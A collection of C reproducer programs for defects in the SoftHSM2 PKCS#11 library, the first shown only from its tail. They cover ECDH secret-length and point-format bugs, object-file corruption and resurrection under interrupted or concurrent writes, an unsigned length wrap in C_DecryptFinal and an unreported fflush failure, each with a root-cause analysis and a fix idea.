 pid_t c=fork(); if(!c){ CK_RV r=p->C_Initialize(NULL); printf("C_Initialize=0x%lx\n",r); CK_ULONG n=8; CK_SLOT_ID s[8]; p->C_GetSlotList(CK_TRUE,s,&n); CK_SESSION_HANDLE hs; r=p->C_OpenSession(s[0],CKF_SERIAL_SESSION,NULL,NULL,&hs); printf("open=0x%lx\n",r); r=p->C_FindObjectsInit(hs,NULL,0); printf("find=0x%lx\n",r); fflush(stdout); _exit(0);} int st; waitpid(c,&st,0); printf("F11 child: %s %d\n",WIFSIGNALED(st)?"signal":"exit",WIFSIGNALED(st)?WTERMSIG(st):WEXITSTATUS(st)); return 0; }
