/*
 * DEFECT 1: CKM_ECDH1_DERIVE returns a wrong shared secret on every curve whose group
 *           order and field size do not occupy the same number of bytes.
 *
 * WHAT IS DONE
 *   An EC key pair is generated on the token (C_GenerateKeyPair, CKM_EC_KEY_PAIR_GEN) for a
 *   named curve, a peer key is made with libcrypto, C_DeriveKey(CKM_ECDH1_DERIVE, CKD_NULL) is
 *   called with the peer's public point (DER OCTET STRING form, unambiguous) into an extractable
 *   CKK_GENERIC_SECRET without CKA_VALUE_LEN, CKA_VALUE is read and compared with libcrypto's
 *   ECDH_compute_key() (x coordinate of the shared point, encoded with the length of a field
 *   element, as SEC1 / X9.63 / PKCS#11 define it).
 *
 * OBSERVED (unmodified tree)
 *   prime256v1   field 256 bits (32 bytes), order 256 bits (32 bytes): ok
 *   sect233k1    field 233 bits (30 bytes), order 232 bits (29 bytes): WRONG SECRET
 *       token   (29 bytes) 00f5fa0c...2ad10d65
 *       openssl (30 bytes) 00f5fa0c...2ad10d65f1
 *   sect409k1    field 409 bits (52 bytes), order 407 bits (51 bytes): WRONG SECRET   (last byte missing)
 *   secp224k1    field 224 bits (28 bytes), order 225 bits (29 bytes): WRONG SECRET
 *       token   (29 bytes) 0014ce2a...36e8b8
 *       openssl (28 bytes) 14ce2a...36e8b8
 *   secp160r1    field 160 bits (20 bytes), order 161 bits (21 bytes): WRONG SECRET   (extra leading 00)
 *   - order shorter than field (NIST K-233 = sect233k1, NIST K-409 = sect409k1, c2pnb176v1, c2pnb208w1,
 *     c2pnb272w1, c2pnb304w1, c2pnb368w1, c2tnb431r1, wtls1, wtls10): the LAST byte of the secret is cut off.
 *   - order longer than field (secp224k1, secp160r1, secp160r2, secp160k1, wtls7, wtls8, wtls9): the secret
 *     gets a spurious leading 0x00 and is one byte too long.
 *   All these curves are accepted by C_GenerateKeyPair / C_CreateObject, ECDSA on them is correct and
 *   C_GetMechanismInfo advertises 112..521 bits for CKM_ECDH1_DERIVE.  Keys cut out of the secret
 *   (CKK_AES, CKA_VALUE_LEN smaller than the secret) are wrong too, because PKCS#11 takes the trailing
 *   bytes: with the last byte missing every key byte is shifted (see ../t3_ec.c: "AES-256 derived value
 *   wrong").  The two sides of a key agreement therefore end up with different keys.
 *
 * EXPECTED
 *   The x coordinate of the shared point as an octet string of exactly ceil(field bits / 8) bytes,
 *   identical to libcrypto / Botan / NSS.
 *
 * ROOT CAUSE
 *   src/lib/crypto/OSSLECDH.cpp, OSSLECDH::deriveKey(), lines 215-228:
 *       int size = ((OSSLECPublicKey *)publicKey)->getOrderLength();     <-- byte length of the group ORDER
 *       secret.wipe(size); derivedSecret.wipe(size);
 *       int keySize = ECDH_compute_key(&derivedSecret[0], derivedSecret.size(), EC_KEY_get0_public_key(pub), priv, NULL);
 *       // We compensate that OpenSSL removes leading zeros
 *       memcpy(&secret[0] + size - keySize, &derivedSecret[0], keySize);
 *   The buffer is sized with getOrderLength() (OSSLECPublicKey.cpp: BN_num_bytes(order)), but an ECDH
 *   secret is a field element: (EC_GROUP_get_degree(group)+7)/8 bytes.  If the order is shorter,
 *   ECDH_compute_key() with outlen smaller than the secret copies only the first outlen bytes (the end is
 *   lost).  If the order is longer, libcrypto returns the field length and the "compensation" memcpy
 *   right-aligns it in the too large buffer, i.e. prepends a zero.  For the NIST prime curves and
 *   brainpool the two lengths coincide, so it is not noticed there.
 *
 * FIX IDEA
 *   int size = (EC_GROUP_get_degree(EC_KEY_get0_group(priv)) + 7) / 8;   (keep the left padding).
 *   getOrderLength() remains right for ECDSA signature sizes.
 *
 * exit status: 1 = reproduced, 0 = not reproduced, 2 = set-up problem
 */
/* ---- common set-up code (identical in all reproducers) ---- */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <dlfcn.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include "cryptoki.h"

static CK_FUNCTION_LIST_PTR F;
static CK_SESSION_HANDLE S;
static char g_tmpdir[1100];
static CK_BBOOL T_ = CK_TRUE, F_ = CK_FALSE;

#define CHECK(rv, what) do { CK_RV _r = (rv); if (_r != CKR_OK) { fprintf(stderr, "%s:%d %s failed: 0x%lx\n", __FILE__, __LINE__, what, (unsigned long)_r); exit(2);} } while (0)

static void hexdump(const char *label, const unsigned char *p, size_t n)
{
	printf("%s (%zu bytes) ", label, n);
	for (size_t i = 0; i < n; i++) printf("%02x", p[i]);
	printf("\n");
}

/* loads <libdir>/libsofthsm2.so, creates a fresh token in a temp dir, opens a R/W session and logs in as user */
static void setup(const char *libdir)
{
	char path[1024], conf[1024];
	if (!getcwd(path, sizeof path)) exit(2);
	snprintf(g_tmpdir, sizeof g_tmpdir, "%s/tmp.XXXXXX", path);
	if (!mkdtemp(g_tmpdir)) { perror("mkdtemp"); exit(2); }
	snprintf(path, sizeof path, "%s/tokens", g_tmpdir);
	mkdir(path, 0700);
	snprintf(conf, sizeof conf, "%s/softhsm2.conf", g_tmpdir);
	FILE *f = fopen(conf, "w");
	fprintf(f, "directories.tokendir = %s/tokens\nobjectstore.backend = file\nlog.level = ERROR\nslots.removable = false\n", g_tmpdir);
	fclose(f);
	setenv("SOFTHSM2_CONF", conf, 1);
	snprintf(path, sizeof path, "%s/libsofthsm2.so", libdir);
	void *h = dlopen(path, RTLD_NOW);
	if (!h) { fprintf(stderr, "dlopen: %s\n", dlerror()); exit(2); }
	CK_C_GetFunctionList gfl = (CK_C_GetFunctionList)dlsym(h, "C_GetFunctionList");
	CHECK(gfl(&F), "C_GetFunctionList");
	CHECK(F->C_Initialize(NULL), "C_Initialize");
	CK_SLOT_ID slots[8]; CK_ULONG n = 8;
	CHECK(F->C_GetSlotList(CK_FALSE, slots, &n), "C_GetSlotList");
	CK_UTF8CHAR label[32]; memset(label, ' ', 32); memcpy(label, "repro", 5);
	CHECK(F->C_InitToken(slots[0], (CK_UTF8CHAR_PTR)"12345678", 8, label), "C_InitToken");
	n = 8;
	CHECK(F->C_GetSlotList(CK_TRUE, slots, &n), "C_GetSlotList");
	CK_SLOT_ID slot = slots[0];
	for (CK_ULONG i = 0; i < n; i++) {
		CK_TOKEN_INFO ti;
		if (F->C_GetTokenInfo(slots[i], &ti) == CKR_OK && (ti.flags & CKF_TOKEN_INITIALIZED)) { slot = slots[i]; break; }
	}
	CHECK(F->C_OpenSession(slot, CKF_SERIAL_SESSION | CKF_RW_SESSION, NULL, NULL, &S), "C_OpenSession");
	CHECK(F->C_Login(S, CKU_SO, (CK_UTF8CHAR_PTR)"12345678", 8), "C_Login SO");
	CHECK(F->C_InitPIN(S, (CK_UTF8CHAR_PTR)"1234", 4), "C_InitPIN");
	CHECK(F->C_Logout(S), "C_Logout");
	CHECK(F->C_Login(S, CKU_USER, (CK_UTF8CHAR_PTR)"1234", 4), "C_Login user");
}

static void cleanup(void)
{
	char cmd[1200];
	snprintf(cmd, sizeof cmd, "rm -rf '%s'", g_tmpdir);
	if (strstr(g_tmpdir, "/tmp.")) system(cmd);
}

static int get_attr(CK_OBJECT_HANDLE h, CK_ATTRIBUTE_TYPE type, void *buf, size_t *len)
{
	CK_ATTRIBUTE a = {type, buf, *len};
	CK_RV rv = F->C_GetAttributeValue(S, h, &a, 1);
	if (rv != CKR_OK) { *len = 0; return (int)rv; }
	*len = a.ulValueLen;
	return 0;
}
/* ---- end of common set-up code ---- */
#include <openssl/ec.h>
#include <openssl/ecdh.h>
#include <openssl/objects.h>
#include <openssl/bn.h>

static int test_curve(int nid, int print)
{
	unsigned char oid[64], *p = oid; int ol = i2d_ASN1_OBJECT(OBJ_nid2obj(nid), &p);
	CK_ATTRIBUTE tpub[] = {{CKA_EC_PARAMS, oid, ol}};
	CK_ATTRIBUTE tpriv[] = {{CKA_DERIVE, &T_, 1}, {CKA_PRIVATE, &F_, 1}, {CKA_SENSITIVE, &F_, 1}, {CKA_EXTRACTABLE, &T_, 1}};
	CK_MECHANISM gm = {CKM_EC_KEY_PAIR_GEN, NULL, 0};
	CK_OBJECT_HANDLE pub, priv;
	CK_RV rv = F->C_GenerateKeyPair(S, &gm, tpub, 1, tpriv, 4, &pub, &priv);
	if (rv) { printf("%-12s not supported by the token (0x%lx)\n", OBJ_nid2sn(nid), rv); return 0; }

	/* the token's public point -> openssl */
	unsigned char pt[300]; size_t pl = sizeof pt;
	CHECK(get_attr(pub, CKA_EC_POINT, pt, &pl), "get CKA_EC_POINT");
	size_t hdr = (pt[1] & 0x80) ? 2 + (pt[1] & 0x7f) : 2;      /* DER OCTET STRING header */
	EC_KEY *peer = EC_KEY_new_by_curve_name(nid);
	const EC_GROUP *g = EC_KEY_get0_group(peer);
	EC_POINT *tp = EC_POINT_new(g);
	if (!EC_POINT_oct2point(g, tp, pt + hdr, pl - hdr, NULL)) { printf("bad point\n"); exit(2); }
	EC_KEY_generate_key(peer);

	/* reference secret */
	unsigned char ref[100]; int refl = ECDH_compute_key(ref, sizeof ref, tp, peer, NULL);

	/* token secret */
	unsigned char raw[300], der[300];
	size_t rl = EC_POINT_point2oct(g, EC_KEY_get0_public_key(peer), POINT_CONVERSION_UNCOMPRESSED, raw, sizeof raw, NULL);
	der[0] = 4; der[1] = (unsigned char)rl; memcpy(der + 2, raw, rl);           /* DER form: unambiguous */
	CK_ECDH1_DERIVE_PARAMS dp = {CKD_NULL, 0, NULL, rl + 2, der};
	CK_MECHANISM m = {CKM_ECDH1_DERIVE, &dp, sizeof dp};
	CK_OBJECT_CLASS cls = CKO_SECRET_KEY; CK_KEY_TYPE kt = CKK_GENERIC_SECRET;
	CK_ATTRIBUTE t[] = {{CKA_CLASS, &cls, sizeof cls}, {CKA_KEY_TYPE, &kt, sizeof kt}, {CKA_PRIVATE, &F_, 1}, {CKA_SENSITIVE, &F_, 1}, {CKA_EXTRACTABLE, &T_, 1}};
	CK_OBJECT_HANDLE h;
	rv = F->C_DeriveKey(S, &m, priv, t, 5, &h);
	if (rv) { printf("%-12s C_DeriveKey rv=0x%lx\n", OBJ_nid2sn(nid), rv); return 1; }
	unsigned char got[100]; size_t gl = sizeof got;
	CHECK(get_attr(h, CKA_VALUE, got, &gl), "get CKA_VALUE");

	int bad = gl != (size_t)refl || memcmp(got, ref, gl);
	printf("%-12s field %3d bits (%2d bytes), order %3d bits (%2d bytes): %s\n", OBJ_nid2sn(nid),
		EC_GROUP_get_degree(g), (EC_GROUP_get_degree(g) + 7) / 8, EC_GROUP_order_bits(g), (EC_GROUP_order_bits(g) + 7) / 8,
		bad ? "WRONG SECRET" : "ok");
	if (bad || print) { hexdump("    token  ", got, gl); hexdump("    openssl", ref, refl); }
	return bad;
}

int main(int argc, char **argv)
{
	if (argc < 2) { fprintf(stderr, "usage: %s <libdir>\n", argv[0]); return 2; }
	setup(argv[1]);
	int bad = 0;
	bad += test_curve(NID_X9_62_prime256v1, 0);   /* control: fine */
	bad += test_curve(NID_sect233k1, 0);          /* NIST K-233: last byte of the secret is cut off */
	bad += test_curve(NID_sect409k1, 0);          /* NIST K-409: last byte of the secret is cut off */
	bad += test_curve(NID_secp224k1, 0);          /* a zero byte is put in front of the secret */
	bad += test_curve(NID_secp160r1, 0);          /* a zero byte is put in front of the secret */
	F->C_Finalize(NULL);
	cleanup();
	printf(bad ? "DEFECT REPRODUCED (%d curves with a wrong ECDH secret)\n" : "not reproduced\n", bad);
	return bad ? 1 : 0;
}
