/* F10: object files are rewritten in place.  LD_PRELOAD shim (compile with -DSHIM -shared -fPIC): the process dies right after the first
 * ftruncate() once the file $F10_ARM exists.  Driver: `create` makes a token data object labelled f10 with a value; `set` arms the shim and
 * changes its label (dies inside C_SetAttributeValue); `look` (fresh process) reports what is left.
 *   gcc -DSHIM -shared -fPIC f10_kill_after_truncate.c -o f10shim.so -ldl ; gcc f10_kill_after_truncate.c -I/repo/src/lib/pkcs11 -ldl -o f10
 *   ./replay setup; ./f10 create; F10_ARM=/tmp/f10/armed LD_PRELOAD=./f10shim.so ./f10 set; ./f10 look */
#define _GNU_SOURCE
#include <stdio.h>
#include <string.h>
#include <stdlib.h>
#include <dlfcn.h>
#include <unistd.h>
#ifdef SHIM
int ftruncate(int fd, off_t len){ int (*real)(int,off_t)=(int(*)(int,off_t))dlsym(RTLD_NEXT,"ftruncate"); int r=real(fd,len); const char*a=getenv("F10_ARM"); if(a && access(a,F_OK)==0){ _exit(9);} return r; }
#else
#include "cryptoki.h"
static CK_FUNCTION_LIST_PTR p;
#define CK(x) do{ CK_RV r=(x); if(r!=CKR_OK){printf("%s -> 0x%lx\n",#x,r); exit(2);} }while(0)
int main(int argc,char**argv){ void*h=dlopen(getenv("SOFTHSM_LIB")?getenv("SOFTHSM_LIB"):"/repo/_build/src/lib/libsofthsm2.so",RTLD_NOW); if(!h){puts(dlerror());return 2;}
 CK_C_GetFunctionList g=(CK_C_GetFunctionList)dlsym(h,"C_GetFunctionList"); g(&p); CK(p->C_Initialize(NULL));
 CK_SLOT_ID slots[8]; CK_ULONG n=8; CK(p->C_GetSlotList(CK_TRUE,slots,&n)); CK_SESSION_HANDLE s; CK(p->C_OpenSession(slots[0],CKF_SERIAL_SESSION|CKF_RW_SESSION,NULL,NULL,&s)); CK(p->C_Login(s,CKU_USER,(CK_UTF8CHAR_PTR)"1234",4));
 CK_OBJECT_CLASS dc=CKO_DATA; CK_BBOOL t=CK_TRUE,f=CK_FALSE;
 if(!strcmp(argv[1],"create")){ CK_ATTRIBUTE tpl[]={{CKA_CLASS,&dc,sizeof dc},{CKA_TOKEN,&t,1},{CKA_PRIVATE,&f,1},{CKA_VALUE,"precious",8},{CKA_LABEL,"f10",3}}; CK_OBJECT_HANDLE o; CK(p->C_CreateObject(s,tpl,5,&o)); puts("created"); return 0; }
 CK_ATTRIBUTE byl[]={{CKA_LABEL,"f10",3}}; CK_OBJECT_HANDLE o[8]; CK_ULONG c=0; CK(p->C_FindObjectsInit(s,byl,1)); CK(p->C_FindObjects(s,o,8,&c)); CK(p->C_FindObjectsFinal(s));
 if(!strcmp(argv[1],"set")){ if(!c){puts("object not found");return 2;} FILE*a=fopen(getenv("F10_ARM"),"w"); fclose(a); CK_ATTRIBUTE st={CKA_LABEL,"f10",3}; CK_RV r=p->C_SetAttributeValue(s,o[0],&st,1); printf("survived?! rv=0x%lx\n",r); return 0; }
 CK_ULONG all=0; CK_OBJECT_HANDLE oa[8]; CK(p->C_FindObjectsInit(s,NULL,0)); CK(p->C_FindObjects(s,oa,8,&all)); CK(p->C_FindObjectsFinal(s));
 printf("fresh process: %lu object(s) labelled f10, %lu object(s) in total\n",c,all);
 for(CK_ULONG i=0;i<all;i++){ CK_BYTE v[64]; CK_ATTRIBUTE ga={CKA_VALUE,v,sizeof v}; CK_RV r=p->C_GetAttributeValue(s,oa[i],&ga,1); printf("  handle %lu: C_GetAttributeValue(CKA_VALUE) -> 0x%lx\n",oa[i],r); }
 printf("%s\n", (c==0)?"BROKEN: the object that existed before the interrupted C_SetAttributeValue is gone (old state lost, new state not written)":"intact"); return c==0; }
#endif
