/*
 * Defect 1 - a token object that process B destroyed (C_DestroyObject -> CKR_OK) is brought
 * back by process A, which was in the middle of C_SetAttributeValue on the same object.
 *
 * The interleaving is made deterministic by interposing open() in this executable: process A
 * stops when the library opens the object's ".lock" file (ObjectFile::startTransaction), i.e.
 * after C_SetAttributeValue has validated the handle and before it writes the object.
 */
#include "p11util.h"
#include <stdarg.h>
#include <sys/syscall.h>

static volatile int armed = 0;
static int to_parent = -1, from_parent = -1;

/* the library's File class calls open(); this definition is found first (-rdynamic) */
int open(const char *path, int flags, ...)
{
	mode_t mode = 0;
	if (flags & O_CREAT) { va_list ap; va_start(ap, flags); mode = va_arg(ap, mode_t); va_end(ap); }
	size_t l = strlen(path);
	if (armed && l > 5 && !strcmp(path + l - 5, ".lock") && !strstr(path, "token.lock")) {
		char c = 'p';
		armed = 0;
		if (write(to_parent, &c, 1) != 1) _exit(2);   /* "I am about to take the lock" */
		if (read(from_parent, &c, 1) != 1) _exit(2);  /* wait until the parent lets us continue */
	}
	return (int) syscall(SYS_openat, AT_FDCWD, path, flags, mode);
}

static int setup(void *u)
{
	(void) u;
	MUST(F->C_Initialize(NULL));
	p11_make_token("defect1");
	CK_SESSION_HANDLE h = p11_user_session();
	CK_OBJECT_CLASS cls = CKO_DATA; CK_BBOOL t = CK_TRUE, f = CK_FALSE;
	CK_ATTRIBUTE tmpl[] = { { CKA_CLASS, &cls, sizeof(cls) }, { CKA_TOKEN, &t, 1 }, { CKA_PRIVATE, &f, 1 },
		{ CKA_LABEL, "victim", 6 }, { CKA_VALUE, "payload", 7 } };
	CK_OBJECT_HANDLE o;
	MUST(F->C_CreateObject(h, tmpl, 5, &o));
	MUST(F->C_Finalize(NULL));
	return 0;
}

static int procA(void)
{
	MUST(F->C_Initialize(NULL));
	CK_SESSION_HANDLE h = p11_user_session();
	CK_OBJECT_HANDLE o[4];
	if (p11_find_label(h, "victim", o, 4) != 1) { SAY("A: SETUP FAILURE: victim not found\n"); return 2; }
	CK_ATTRIBUTE set[] = { { CKA_LABEL, "changed", 7 } };
	SAY("A: calls C_SetAttributeValue(victim, CKA_LABEL=\"changed\")\n");
	armed = 1;
	CK_RV rv = F->C_SetAttributeValue(h, o[0], set, 1);
	SAY("A: C_SetAttributeValue returned 0x%lx\n", rv);
	F->C_Finalize(NULL);
	return 0;
}

static int procB(void *u)
{
	(void) u;
	MUST(F->C_Initialize(NULL));
	CK_SESSION_HANDLE h = p11_user_session();
	CK_OBJECT_HANDLE o[4];
	if (p11_find_label(h, "victim", o, 4) != 1) { SAY("B: SETUP FAILURE: victim not found\n"); return 2; }
	CK_RV rv = F->C_DestroyObject(h, o[0]);
	SAY("B: C_DestroyObject(victim) returned 0x%lx; object files in the token directory now: %d\n", rv, p11_count_object_files());
	CK_ULONG n = p11_find(h, NULL, 0, o, 4);
	SAY("B: C_FindObjects now returns %lu objects\n", n);
	F->C_Finalize(NULL);
	return (rv == CKR_OK && n == 0) ? 0 : 2;
}

static int procC(void *u)
{
	(void) u;
	MUST(F->C_Initialize(NULL));
	CK_SESSION_HANDLE h = p11_user_session();
	CK_OBJECT_HANDLE o[8];
	CK_ULONG n = p11_find(h, NULL, 0, o, 8);
	SAY("C: a fresh process finds %lu object(s) on the token\n", n);
	for (CK_ULONG i = 0; i < n; i++) {
		char lab[64] = { 0 }, val[64] = { 0 };
		p11_get(h, o[i], CKA_LABEL, lab, 63, NULL);
		p11_get(h, o[i], CKA_VALUE, val, 63, NULL);
		SAY("C:   CKA_LABEL='%s' CKA_VALUE='%s'\n", lab, val);
	}
	F->C_Finalize(NULL);
	return n ? 1 : 0;
}

int main(int argc, char **argv)
{
	const char *libdir = argc > 1 ? argv[1] : ".";
	p11_setup_dirs(libdir);
	p11_load(libdir);
	SAY("Set-up: one token, one public CKO_DATA token object labelled 'victim'.\n");
	if (p11_in_child(setup, NULL)) return 2;
	SAY("object files after set-up: %d\n", p11_count_object_files());

	int p2c[2], c2p[2];
	if (pipe(p2c) || pipe(c2p)) return 2;
	fflush(stdout);
	pid_t a = fork();
	if (a < 0) return 2;
	if (a == 0) { to_parent = c2p[1]; from_parent = p2c[0]; _exit(procA()); }
	char c;
	if (read(c2p[0], &c, 1) != 1) { SAY("SETUP FAILURE: process A did not reach the lock file\n"); return 2; }
	SAY("-- A is inside C_SetAttributeValue: handle checked, about to open the object's .lock file --\n");
	if (p11_in_child(procB, NULL)) { SAY("SETUP FAILURE in process B\n"); return 2; }
	SAY("-- A continues --\n");
	if (write(p2c[1], &c, 1) != 1) return 2;
	int st; waitpid(a, &st, 0);
	SAY("object files after A returned: %d\n", p11_count_object_files());
	int rc = p11_in_child(procC, NULL);
	SAY("\nProperty C15/C05: B's C_DestroyObject returned CKR_OK, so the object must stay destroyed\n"
	    "(\"destroyed objects never reappear\", \"no interleaving ... duplicates or corrupts a committed object\").\n");
	if (rc == 1) SAY("OBSERVED: the destroyed object is back on disk and is returned to every process. DEFECT REPRODUCED\n");
	else if (rc == 0) SAY("OBSERVED: the object stayed destroyed. not reproduced\n");
	return rc;
}
