/* F23: SymDecryptFinal computes the length it reports as remainingSize - 1 for padded block modes; with nothing buffered (C_DecryptFinal right after
 * C_DecryptInit, or after updates that consumed whole blocks... ) the unsigned subtraction wraps: the size query answers CKR_OK with 0xFFFFFFFFFFFFFFFF
 * and every real buffer is then "too small".  Needs a token from ./replay setup (user PIN 1234). */
#include <stdio.h>
#include <string.h>
#include <stdlib.h>
#include <dlfcn.h>
#include "cryptoki.h"
static CK_FUNCTION_LIST_PTR p;
#define CK(x) do{ CK_RV r=(x); if(r!=CKR_OK){printf("%s -> 0x%lx\n",#x,r); exit(2);} }while(0)
int main(){ void*h=dlopen(getenv("SOFTHSM_LIB")?getenv("SOFTHSM_LIB"):"/repo/_build/src/lib/libsofthsm2.so",RTLD_NOW); if(!h){puts(dlerror());return 2;}
 CK_C_GetFunctionList g=(CK_C_GetFunctionList)dlsym(h,"C_GetFunctionList"); g(&p); CK(p->C_Initialize(NULL));
 CK_SLOT_ID slots[8]; CK_ULONG n=8; CK(p->C_GetSlotList(CK_TRUE,slots,&n)); CK_SESSION_HANDLE s; CK(p->C_OpenSession(slots[0],CKF_SERIAL_SESSION|CKF_RW_SESSION,NULL,NULL,&s)); CK(p->C_Login(s,CKU_USER,(CK_UTF8CHAR_PTR)"1234",4));
 CK_BBOOL T=CK_TRUE,F=CK_FALSE; CK_OBJECT_CLASS kc=CKO_SECRET_KEY; CK_KEY_TYPE kt=CKK_AES; CK_BYTE key[16]; memset(key,0x5a,16);
 CK_ATTRIBUTE tk[]={{CKA_CLASS,&kc,sizeof kc},{CKA_KEY_TYPE,&kt,sizeof kt},{CKA_TOKEN,&F,1},{CKA_VALUE,key,16},{CKA_DECRYPT,&T,1},{CKA_ENCRYPT,&T,1}}; CK_OBJECT_HANDLE hk; CK(p->C_CreateObject(s,tk,6,&hk));
 CK_BYTE iv[16]={0}; CK_MECHANISM m={CKM_AES_CBC_PAD,iv,16};
 CK(p->C_DecryptInit(s,&m,hk)); CK_ULONG len=12345; CK_BYTE none[1]; CK_RV ru=p->C_DecryptUpdate(s,none,0,NULL,&len); printf("C_DecryptInit(CKM_AES_CBC_PAD); C_DecryptUpdate(0 bytes, NULL, &len) -> rv=0x%lx len=0x%lx\n",ru,len); int badu=(ru==CKR_OK&&len>64); len=12345; CK_RV rv=p->C_DecryptFinal(s,NULL,&len);
 printf("C_DecryptInit(CKM_AES_CBC_PAD); C_DecryptFinal(NULL,&len) -> rv=0x%lx len=0x%lx\n",rv,len);
 int bad = badu || (rv==CKR_OK && len>64); CK_BYTE buf[64]; len=sizeof buf; rv=p->C_DecryptFinal(s,buf,&len); printf("C_DecryptFinal(buf[64]) -> rv=0x%lx len=0x%lx\n",rv,len);
 if(rv==CKR_BUFFER_TOO_SMALL) bad=1;
 printf("%s\n", bad?"BROKEN: the reported length is larger than anything the mechanism can need (unsigned wrap of 0 - 1)":"length protocol honest"); return bad; }
