/* F19: a failing fflush() (here: RLIMIT_FSIZE, EFBIG; in the field: disk full) at File::unlock() is not reported:
 * C_CreateObject returns CKR_OK although the object file was cut short.  Needs SOFTHSM2_CONF and a token from ./replay setup. */
#include <stdio.h>
#include <string.h>
#include <stdlib.h>
#include <signal.h>
#include <dlfcn.h>
#include <sys/resource.h>
#include "cryptoki.h"
static CK_FUNCTION_LIST_PTR p;
#define CK(x) do{ CK_RV r=(x); if(r!=CKR_OK){printf("%s -> 0x%lx\n",#x,r); exit(2);} }while(0)
static CK_ULONG count(CK_SESSION_HANDLE s){ CK_OBJECT_CLASS c=CKO_DATA; CK_ATTRIBUTE t[]={{CKA_CLASS,&c,sizeof c}}; CK_OBJECT_HANDLE h[16]; CK_ULONG n=0; CK(p->C_FindObjectsInit(s,t,1)); CK(p->C_FindObjects(s,h,16,&n)); CK(p->C_FindObjectsFinal(s)); return n; }
int main(){ void*h=dlopen(getenv("SOFTHSM_LIB")?getenv("SOFTHSM_LIB"):"/repo/_build/src/lib/libsofthsm2.so",RTLD_NOW); if(!h){puts(dlerror());return 2;}
 CK_C_GetFunctionList g=(CK_C_GetFunctionList)dlsym(h,"C_GetFunctionList"); g(&p); CK(p->C_Initialize(NULL));
 CK_SLOT_ID slots[8]; CK_ULONG n=8; CK(p->C_GetSlotList(CK_TRUE,slots,&n)); CK_SESSION_HANDLE s; CK(p->C_OpenSession(slots[0],CKF_SERIAL_SESSION|CKF_RW_SESSION,NULL,NULL,&s));
 CK(p->C_Login(s,CKU_USER,(CK_UTF8CHAR_PTR)"1234",4));
 CK_ULONG before=count(s);
 signal(SIGXFSZ,SIG_IGN); struct rlimit rl={200,200}; setrlimit(RLIMIT_FSIZE,&rl);
 CK_OBJECT_CLASS dc=CKO_DATA; CK_BBOOL t=CK_TRUE,f=CK_FALSE; CK_BYTE val[600]; memset(val,'A',sizeof val);
 CK_ATTRIBUTE tpl[]={{CKA_CLASS,&dc,sizeof dc},{CKA_TOKEN,&t,1},{CKA_PRIVATE,&f,1},{CKA_VALUE,val,sizeof val},{CKA_LABEL,"f19",3}};
 CK_OBJECT_HANDLE o; CK_RV rv=p->C_CreateObject(s,tpl,5,&o);
 struct rlimit big={RLIM_INFINITY,RLIM_INFINITY}; setrlimit(RLIMIT_FSIZE,&big);
 printf("F19 C_CreateObject(token data object, 600-byte value) with the file size limited to 200 bytes: rv=0x%lx\n",rv);
 CK(p->C_Finalize(NULL)); CK(p->C_Initialize(NULL)); CK(p->C_OpenSession(slots[0],CKF_SERIAL_SESSION|CKF_RW_SESSION,NULL,NULL,&s)); CK(p->C_Login(s,CKU_USER,(CK_UTF8CHAR_PTR)"1234",4));
 CK_ULONG after=count(s);
 printf("    data objects before=%lu, after re-initialisation=%lu  => %s\n",before,after,(rv==CKR_OK&&after==before)?"BROKEN: CKR_OK was returned but the object did not persist":"consistent");
 return rv==CKR_OK && after==before; }
