/*
 * DEFECT 2: CKM_ECDH1_DERIVE fails for about one peer key in 256 when the peer's public point is
 *           passed in the raw form (04 || X || Y) on any curve other than P-256 / P-384 / P-521
 *           (P-224, P-192, secp256k1 is fine, brainpoolP320/P512, K-233, ...).
 *
 * WHAT IS DONE
 *   A P-224 key pair is generated on the token.  libcrypto peer keys are generated until one is found
 *   whose X coordinate starts with the byte 0x37 (= 55 = length of the raw point - 2; on average 256
 *   tries).  C_DeriveKey(CKM_ECDH1_DERIVE, CKD_NULL) is then called twice with that peer: once with
 *   pPublicData = raw uncompressed point (57 bytes: 04 37 ...), which PKCS#11 v2.40 section 2.3.11
 *   says a token MUST accept, and once with the same point wrapped in a DER OCTET STRING
 *   (59 bytes: 04 39 04 37 ...).  A "normal" peer (X does not start with 0x37) is used as control.
 *
 * OBSERVED (unmodified tree)
 *   control peer, raw point  (04 a1...): rv=0x0, secret equals openssl
 *   special peer, raw point  (04 37...): rv=0x5 (CKR_GENERAL_ERROR)           <-- defect
 *   special peer, DER point            : rv=0x0, secret equals openssl
 *   The same happens with the first X byte 0x2f on P-192/prime192v*, 0x3b on the 239 bit curves,
 *   0x4f on brainpoolP320, 0x7f on brainpoolP512, 0x59 on c2tnb359v1 ... (seen with ../t3_ec.c).
 *   The failure is deterministic for a given peer key, so a key agreement with such a partner can
 *   never succeed.
 *
 * EXPECTED
 *   CKR_OK and the same secret as with the DER form / as libcrypto.
 *
 * ROOT CAUSE
 *   src/lib/SoftHSM.cpp, SoftHSM::getECDHPubData(), lines 12457-12503.  The function has to guess
 *   whether pPublicData is raw or a DER OCTET STRING.  Only the lengths 32, 56, 65, 97 and 133 are
 *   recognised as raw by their size; for every other length it looks at the data:
 *       else if (len < controlOctets || pubData[0] != 0x04)  -> raw
 *       else if (pubData[1] < 0x80) { if (pubData[1] != (len - controlOctets)) controlOctets = 0; }
 *   A raw uncompressed point always starts with 0x04 (the SEC1 "uncompressed" tag, which happens to be
 *   the DER tag of OCTET STRING too), and its second byte is the first byte of X, which is random.  If
 *   it equals len-2 the raw point is taken for DER, DERUTIL::octet2Raw() strips two bytes, the
 *   remaining 55 bytes are not a point, EC_POINT_oct2point() fails, the public key stays empty and
 *   OSSLECDH::deriveKey() returns false -> CKR_GENERAL_ERROR.
 *
 * FIX IDEA
 *   Decide with the curve, not with the data: compute the expected raw lengths from the private key's
 *   group (1 + 2*fieldbytes uncompressed, 1 + fieldbytes compressed) in getECDHPublicKey(); if
 *   len equals one of them treat the data as raw, otherwise try DER.  (For uncompressed points a
 *   raw point of the right length can never be a valid DER OCTET STRING of a valid point.)
 *
 * exit status: 1 = reproduced, 0 = not reproduced, 2 = set-up problem
 */
/* ---- common set-up code (identical in all reproducers) ---- */
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <dlfcn.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include "cryptoki.h"

static CK_FUNCTION_LIST_PTR F;
static CK_SESSION_HANDLE S;
static char g_tmpdir[1100];
static CK_BBOOL T_ = CK_TRUE, F_ = CK_FALSE;

